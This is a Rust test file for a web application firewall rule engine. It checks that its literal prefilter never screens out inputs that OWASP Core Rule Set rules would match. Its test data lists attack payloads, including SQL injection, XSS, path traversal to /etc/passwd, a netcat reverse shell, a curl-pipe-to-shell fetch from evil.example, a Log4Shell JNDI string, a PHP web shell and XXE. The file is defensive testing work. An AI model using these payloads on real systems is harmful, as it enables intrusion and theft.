//! The literal prefilter is sound on the whole Core Rule Set: no operator
//! of any CRS rule matches a value its screen rules out (a screen is one
//! or more literal sets, every one of which a match must hold a member
//! of). Checked on attack payloads of every class CRS covers, on
//! libinjection's known-benign inputs, and on each of them lowercased,
//! uppercased and percent-decoded; by the whole set's prefilter and by
//! the narrow one of each target's variable.

use std::path::Path;

use seclang::crs::{Settings, rule_set};

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "1; WAITFOR DELAY '0:0:5'--",
    "(select benchmark(1000000,md5(1)))",
    "'; if (1=1) sleep(5)--",
    "create function f() returns int",
    "admin'/**/or/**/1=1#",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert`1`>",
    "javascript:alert(document.cookie)",
    "&#106;avascript:alert(1)",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "for /f %i in ('dir') do echo %i",
    "if exist c:\\boot.ini echo yes",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "assert(base64_decode('cGhwaW5mbygpOw=='))",
    "include(\"http://evil.example/shell.txt\")",
    "http://evil.example/shell.txt?",
    "require('child_process').exec('id')",
    "while(!false){}",
    "{{7*7}}",
    "#{7*7}",
    "O:8:\"stdClass\":0:{}",
    "%uff0e%uff0e/etc/passwd",
    "\\u0027 or 1=1",
    "GET /index.html HTTP/1.1",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "class.module.classLoader.resources.context",
    "() { :; }; /bin/bash -c id",
    "__proto__[admin]=1",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"http://e/\">]>",
];

fn decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && let Some(v) = s
                .get(i + 1..i + 3)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn no_crs_operator_matches_a_value_its_screen_rules_out() {
    let rules = rule_set(
        "",
        &Settings {
            paranoia: 4,
            ..Settings::default()
        },
        "",
    )
    .unwrap();
    let benign = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../third_party/libinjection/false_positives.txt"),
    )
    .unwrap();
    let mut inputs: Vec<String> = ATTACKS.iter().map(|s| s.to_string()).collect();
    inputs.extend(benign.lines().map(str::to_string));
    // The narrow prefilters (of `REQUEST_BODY`, `REQUEST_URI`…) are
    // checked too: `screened_wrongly` asks each target's.
    let (narrow, bytes) = rules.narrow_prefilters();
    assert!(narrow >= 5 && bytes > 0, "{narrow} narrow prefilters");
    let mut checked = 0;
    for base in &inputs {
        for input in [
            base.clone(),
            base.to_lowercase(),
            base.to_uppercase(),
            decode(base),
        ] {
            let wrong = rules.screened_wrongly(input.as_bytes());
            assert!(
                wrong.is_empty(),
                "{input:?}: rules {wrong:?} match but were screened out"
            );
            checked += 1;
        }
    }
    assert!(checked > 1500, "{checked}");
}
